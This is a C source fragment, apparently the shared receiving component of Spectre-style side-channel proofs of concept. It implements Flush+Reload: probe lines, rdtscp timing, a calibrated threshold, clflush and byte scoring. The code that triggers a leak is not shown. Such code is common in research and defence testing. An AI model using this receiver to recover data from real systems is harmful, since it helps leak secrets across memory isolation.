/* The receiving side that all patterns share: 256 lines, a threshold that is measured, scores. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <x86intrin.h>

#ifndef STRIDE
#define STRIDE 4096
#endif
#define NOTHING '?'

static uint8_t lines[(256 + 2) * STRIDE] __attribute__((aligned(4096)));
static unsigned threshold;
static int scores[256];

static inline uint8_t *line(unsigned value) { return lines + (value + 1) * STRIDE; }

static inline void touch(const void *place) { *(volatile const uint8_t *)place; }

static unsigned access_time(const void *place) {
    unsigned id;
    _mm_mfence();
    uint64_t before = __rdtscp(&id);
    touch(place);
    uint64_t after = __rdtscp(&id);
    return (unsigned)(after - before);
}

/* Half way between what a cached and what a flushed line take, each the mean of many. */
static void calibrate(int rounds) {
    uint64_t cached = 0, flushed = 0;
    memset(lines, 1, sizeof lines);
    touch(line(7));
    for (int i = 0; i < rounds; i++) cached += access_time(line(7));
    for (int i = 0; i < rounds; i++) {
        _mm_clflush(line(7));
        flushed += access_time(line(7));
    }
    threshold = (unsigned)((cached + flushed) / (2 * (unsigned)rounds));
}

static void forget(void) {
    for (unsigned value = 0; value < 256; value++) _mm_clflush(line(value));
    _mm_mfence();
    _mm_lfence();
}

/* Every line that is cached scores, but `known`, which was read in the open. */
static void look(int known) {
    for (unsigned i = 0; i < 256; i++) {
        unsigned value = (i * 167 + 13) & 255;
        if (access_time(line(value)) < threshold && (int)value != known) scores[value]++;
    }
}

/* The value that scored `enough`, and twice as often as any other; NOTHING if there is none. */
static int best(int enough) {
    int first = 0, second = 0;
    for (int value = 0; value < 256; value++) {
        if (scores[value] > scores[first]) second = first, first = value;
        else if (value != first && (second == first || scores[value] > scores[second])) second = value;
    }
    return scores[first] >= enough && (second == first || scores[first] > 2 * scores[second]) ? first : NOTHING;
}

static void start(void) { memset(scores, 0, sizeof scores); }
